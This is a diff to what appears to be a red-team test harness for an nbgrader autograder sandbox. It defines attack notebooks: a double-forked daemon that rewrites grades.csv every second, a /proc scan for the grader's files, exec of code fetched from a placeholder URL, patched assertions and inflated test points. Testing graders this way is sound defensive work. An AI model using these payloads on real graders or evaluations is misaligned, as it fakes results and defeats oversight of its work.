@@ -13,7 +13,7 @@ base's honest score, and the grader, the other submissions and their grades stay
 | patched-assertions | inverted-mask | ``torch.testing.assert_close`` and the tests' ``check_close`` made no-ops |
 | patched-torch | no-sqrt-scaling | PyTorch's reference attention patched to share the student's mistake |
 | edited-metadata | blank | test cells emptied, their points raised, a test cell of its own added |
-| daemon | solution | a double-forked daemon that rewrites grades.csv later; a child that holds stdout open |
+| daemon | solution | a double-forked daemon that rewrites grades.csv every second; a child that holds stdout open |
 | print-100mb | solution | 100 MiB of output |
 | allocate-8gb | solution | an 8 GiB tensor |
 | network | blank | download the solution from a server (a local one stands for the internet) |
@@ -26,8 +26,8 @@ import json
 from dataclasses import dataclass
 
 ASSIGNMENT = "a1_masked_attention"
-DAEMON_MARKERS = ("sleep 313", "sleep 317")  # command lines the daemon attack leaves if it survives
-DAEMON_DELAY = 4  # seconds after which the daemon rewrites grades.csv
+DAEMON_MARKERS = ("sleep 313", "attn-redteam-daemon")  # command lines of the daemon attack's processes
+DAEMON_DELAY = 1  # the daemon rewrites grades.csv every second for two minutes
 
 # Where a submission might look for the grader's files: its working folder's ancestors, the paths on
 # the command lines of the machine's processes (the grader's, with its folders), their working folders.
@@ -39,8 +39,9 @@ def _grader_paths():
         if pid.isdigit():
             try:
                 start.append(os.readlink(f'/proc/{pid}/cwd'))
-                start += [a for a in open(f'/proc/{pid}/cmdline').read().split('\0') if a.startswith('/')]
-            except OSError:
+                start += [a for a in open(f'/proc/{pid}/cmdline', errors='replace').read().split('\0')
+                          if a.startswith('/')]
+            except Exception:
                 pass
     found = set()
     for path in start:
@@ -133,8 +134,8 @@ import subprocess, sys
 _targets = sorted({os.path.join(f, 'grades.csv') for f in _grader_paths()
                    if os.path.isdir(os.path.join(f, 'nbgrader')) or os.path.isdir(os.path.join(f, 'work'))
                    or os.path.isfile(os.path.join(f, 'grades.csv'))})
-_script = ('sleep __DELAY__; for t in "$@"; do printf "student,status,score\\nsolution,failed,0\\n" > "$t"; done; '
-           'exec sleep 317')
+_script = (': attn-redteam-daemon; for i in $(seq 120); do sleep 1; '
+           'for t in "$@"; do printf "student,status,score\\nsolution,failed,0\\n" > "$t"; done; done')
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
@@ -158,7 +159,8 @@ print(float(_big.sum()))
 
 NETWORK = r'''
 import urllib.request
-exec(urllib.request.urlopen('__URL__', timeout=5).read().decode(), globals())
+_direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # no proxy: straight to the server
+exec(_direct.open('__URL__', timeout=5).read().decode(), globals())
 '''
 
 
@@ -166,12 +168,13 @@ exec(urllib.request.urlopen('__URL__', timeout=5).read().decode(), globals())
 class Attack:
     name: str
     base: str  # "blank", "solution" or "wrong-<name>"
-    code: str  # a cell added after the setup cell
+    code: str  # a cell added after the setup cell, or (in_solutions) the content of every solution cell
     what: str
+    in_solutions: bool = False  # so that the student's own (blank) cells do not undo it
 
 
 ATTACKS = [
-    Attack("read-solutions", "blank", READ_SOLUTIONS, "read solutions or hidden tests"),
+    Attack("read-solutions", "blank", READ_SOLUTIONS, "read solutions or hidden tests", in_solutions=True),
     Attack("tamper-others", "blank", TAMPER, "write outside its folder, tamper with other grades"),
     Attack("skip-test-cells", "blank", SKIP_TEST_CELLS, "neutralise the tests: input transformer"),
     Attack("patched-assertions", "wrong-inverted-mask", PATCHED_ASSERTIONS, "neutralise the tests: patched assertions"),
@@ -180,7 +183,7 @@ ATTACKS = [
     Attack("daemon", "solution", DAEMON, "leave a daemon, hold stdout open"),
     Attack("print-100mb", "solution", PRINT_100MB, "print 100 MB"),
     Attack("allocate-8gb", "solution", ALLOCATE_8GB, "allocate 8 GB"),
-    Attack("network", "blank", NETWORK, "use the network"),
+    Attack("network", "blank", NETWORK, "use the network", in_solutions=True),
 ]
 
 
@@ -200,6 +203,11 @@ def attack_notebook(attack: Attack, base: dict, name: str, repo: str, url: str) 
                                   "metadata": {"nbgrader": {"grade": True, "grade_id": "bonus", "points": 100,
                                                             "locked": True, "solution": False,
                                                             "schema_version": 3}}})
+        return notebook
+    if attack.in_solutions:
+        for cell in notebook["cells"]:
+            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
+                cell["source"] = code
         return notebook
     # Right after the setup cell, so that it runs before every test in a grader that runs the notebook
     # top to bottom (the harness runs it in the sandbox wherever it stands).
